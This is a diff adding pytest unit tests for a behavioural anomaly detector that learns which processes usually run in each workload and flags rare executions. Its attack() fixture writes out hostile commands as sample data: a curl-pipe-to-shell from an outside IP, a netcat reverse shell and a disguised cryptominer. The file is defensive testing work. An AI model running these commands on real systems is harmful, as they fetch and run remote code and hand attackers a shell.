@@ -1,0 +1,207 @@
+"""The analyser as a detector: quiet about what is usual, loud about what is not, and the same however its events are cut into batches."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import numpy as np
+import pytest
+
+from daemoneye.errors import ConfigError
+from daemoneye_analytics.behaviour import models
+from daemoneye_analytics.checkpoint import Checkpoint, decode, encode
+from tests.unit.analytics.behaviour.traffic import WORKLOADS, analyser, execution, frames, run, usual
+
+HOURS = 16
+VICTIM = "shop/Deployment/app-2/main"
+
+
+@pytest.fixture(scope="module")
+def history():
+    return usual(HOURS)
+
+
+@pytest.fixture(scope="module")
+def learned(history):
+    """The state of an analyser that has seen the history, and what it said meanwhile."""
+    detector = analyser()
+    findings, scores = run(detector, history)
+    return detector.state(), findings, scores
+
+
+def again(learned, **parameters: Any):
+    detector = analyser(**parameters)
+    detector.restore(learned[0])
+    return detector
+
+
+def attack(at: float = HOURS * 3600 + 300) -> list:
+    """A shell below the web server that fetches and runs something."""
+    names = ((b"/bin/sh", b"sh", b"-c", b"curl -s http://198.51.100.9/x | sh"), (b"/usr/bin/nc", b"nc", b"-e", b"/bin/sh", b"198.51.100.9", b"4444"),
+             (b"/tmp/.x/kworker", b"kworker", b"--pool", b"stratum"), (b"/usr/bin/whoami", b"whoami"))  # fmt: skip
+    return [execution(12, at + k, exe, argv, 900_000 + k) for k, (exe, *argv) in enumerate(names)]
+
+
+def later(*extra, hours: float = 0.5) -> list:
+    return sorted([*usual(hours, seed=2, start=HOURS * 3600 + 60), *extra], key=lambda row: row.time)
+
+
+def test_what_is_usual_raises_nothing_and_its_scores_are_low(learned):
+    _, findings, scores = learned
+    assert findings == []
+    last = [s for s in scores if s["state"] == "Active"]
+    assert len(last) > 200
+    assert {s["workload"] for s in last} == {name.decode() for name in WORKLOADS.values()}
+    assert sum(s["p"] <= 0.1 for s in last) < 0.25 * len(last)
+    assert max(s["score"] for s in last) < 0.8
+
+
+def test_before_enough_windows_were_seen_nothing_is_guessed(learned):
+    _, _, scores = learned
+    first = scores[0]
+    assert (first["score"], first["p"], first["state"]) == (None, None, "Learning")
+    states = list(dict.fromkeys(s["state"] for s in scores if s["workload"] == VICTIM))
+    assert states[0] == "Learning"
+    assert states[-1] == "Active"
+
+
+def test_an_attack_is_told_with_its_process_its_bits_and_its_counts(learned):
+    detector = again(learned)
+    rows = later(*attack())
+    findings, _ = run(detector, rows, first=100_000)
+    (finding,) = findings
+    assert finding.detector == "behavioral_anomaly"
+    assert finding.subject.workload == VICTIM
+    assert finding.subject.exe in {"/bin/sh", "/usr/bin/nc", "/tmp/.x/kworker", "/usr/bin/whoami"}
+    assert finding.score >= 0.8
+    text = " ".join(finding.explanation)
+    assert "p = " in text
+    assert "/usr/bin/nc never ran in this workload in" in text or "/bin/sh never ran in this workload in" in text
+    assert "bits)" in text
+    assert finding.process_tree[0].exe == "/usr/sbin/nginx"
+    assert {event.event for event in finding.events} == {"process_exec"}
+
+
+def test_borders_of_batches_change_neither_scores_nor_findings(learned):
+    rows = later(*attack(), hours=1.0)
+    told = []
+    for size in (1, 7, 64, len(rows)):
+        findings, scores = run(again(learned), rows, size, first=100_000)
+        told.append(([f.id for f in findings], json.dumps(scores)))
+    assert all(one == told[0] for one in told[1:])
+    assert told[0][0]
+
+
+def test_a_checkpoint_goes_on_as_if_nothing_had_happened(learned):
+    rows = later(*attack(), hours=1.0)
+    whole, scores = run(again(learned), rows, 50, first=100_000)
+    detector, parts = again(learned), []
+    said: list[dict[str, Any]] = []
+    for frame in frames(rows, 50, first=100_000):
+        parts += detector.process(frame)
+        said += detector.scores
+        saved = decode(encode(Checkpoint(1, 1, {}, {"behavioral_anomaly": detector.state()}))).detectors[
+            "behavioral_anomaly"
+        ]
+        detector = analyser()
+        detector.restore(dict(saved))
+    assert [f.id for f in parts] == [f.id for f in whole]
+    assert said == scores
+
+
+def test_what_alarmed_is_not_learned_and_is_told_once_an_hour(learned):
+    detector = again(learned)
+    rows = later(*attack(), *attack(HOURS * 3600 + 1500), *attack(HOURS * 3600 + 6000), hours=2.0)
+    findings, _ = run(detector, rows, first=100_000)
+    assert len(findings) == 2, "the second attack repeats the first within the hour; the third does not"
+    assert detector.status()["suppressed"] >= 1
+
+
+def test_what_others_found_is_not_learned(learned):
+    quiet = again(learned, threshold=1.0)
+    rows = later(*attack())
+    for frame in frames(rows, first=100_000):
+        processes = frame.exec_rows["process_uid"][frame.exec_rows["pid"] >= 900_000].tolist()
+        frame.flagged += processes
+        quiet.process(frame)
+    run(quiet, later(hours=0.1), first=200_000)
+    known = quiet._counts.seen
+    from daemoneye_analytics.behaviour.executions import FLEET
+    from daemoneye_analytics.behaviour.features import EXE
+    from daemoneye_analytics.frame import text_hash
+
+    assert known(FLEET, EXE.number, 0, text_hash("/usr/bin/nc"))[0] == 0
+    assert known(FLEET, EXE.number, 0, text_hash("/usr/bin/date"))[0] > 100
+
+
+def test_a_score_does_not_depend_on_its_batch(learned):
+    """One window's features alone and beside those of the other workloads."""
+    rows = later(hours=0.4)
+    alone = [row for row in rows if row.cgroup == 12]
+    together = {s["start"]: s for s in run(again(learned), rows, first=100_000)[1] if s["workload"] == VICTIM}
+    single = {s["start"]: s for s in run(again(learned), alone, first=100_000)[1]}
+    assert together
+    start = min(together)  # later windows may have learned from the others
+    assert single[start] == together[start]
+
+
+def test_floods_constants_and_clock_jumps_are_survived(learned):
+    detector = again(learned)
+    flood = [
+        execution(11, HOURS * 3600 + 60 + k * 1e-4, b"/usr/bin/date", (b"date",), 500_000 + k) for k in range(5000)
+    ]
+    back = [execution(11, 5.0 + k, b"/usr/bin/date", (b"date",), 600_000 + k) for k in range(10)]
+    ahead = [execution(11, 1e8 + k, b"/usr/bin/date", (b"date",), 700_000 + k) for k in range(10)]
+    lost = [execution(11, 1e8 + 900 + k, b"", (), 800_000 + k) for k in range(10)]
+    _, scores = run(detector, [*flood, *back, *ahead, *lost], 1000, first=100_000)
+    assert {s["executions"] for s in scores} >= {100}
+    assert all(s["p"] is None or 0 < s["p"] <= 1 for s in scores)
+    assert np.isfinite([s["score"] for s in scores if s["score"] is not None]).all()
+
+
+def test_a_million_workloads_of_jobs_are_bounded():
+    detector = analyser(max_workloads=50, max_items=1000)
+    from daemoneye_analytics.frame import Frame
+    from tests.unit.analytics.factory import Exec, batch
+
+    for number in range(20):
+        cgroups = {1000 * number + k: b"ci/Job/build-%d-%d/main" % (number, k) for k in range(1, 100)}
+        rows = [
+            Exec(exe=b"/usr/bin/make-%d" % k, pid=k, start=60.0 * number + 1, time=60.0 * number + 1, cgroup=k)
+            for k in cgroups
+        ]
+        detector.process(Frame(batch(rows, first=number * 1000, workloads=cgroups)))
+    status = detector.status()
+    assert status["workloads"] <= 50
+    assert status["items"] <= 1000
+    assert status["dropped"] > 0
+
+
+def test_a_policy_that_changes_the_models_keeps_what_was_learned(learned):
+    detector = again(learned, models=('{"name": "process_rarity"}', '{"name": "sequence"}'))
+    findings, scores = run(detector, later(*attack()), first=100_000)
+    assert [f.subject.workload for f in findings] == [VICTIM], "what was counted and calibrated goes on"
+    assert set(scores[-1]["models"]) == {"process_rarity", "sequence"}
+
+
+@pytest.mark.parametrize(
+    ("given", "message"),
+    [
+        ({"name": "x"}, "names no features"),
+        ({"name": "x", "features": ["rarest", "exe_bits"]}, "mixes features"),
+        ({"name": "x", "features": ["rarest"], "detector": "HBOS"}, "detectors are for features of processes"),
+        ({"name": "x", "features": ["exe_bits", "exe_bits"]}, "twice"),
+        ({"name": "x", "features": ["exe_bits"], "parameters": {"a": 1}}, "no detector"),
+        ({"name": "x", "features": ["exe_bits"], "detector": "ECOD"}, "HBOS, IForest"),
+        ({"features": ["exe_bits"]}, "no name"),
+    ],
+)
+def test_models_that_cannot_be_are_refused_with_the_choices(given, message):
+    with pytest.raises(ConfigError, match=message):
+        models.parse([given])
+
+
+def test_a_state_of_another_form_is_refused():
+    with pytest.raises(ValueError, match="format"):
+        analyser().restore({"format": 99})
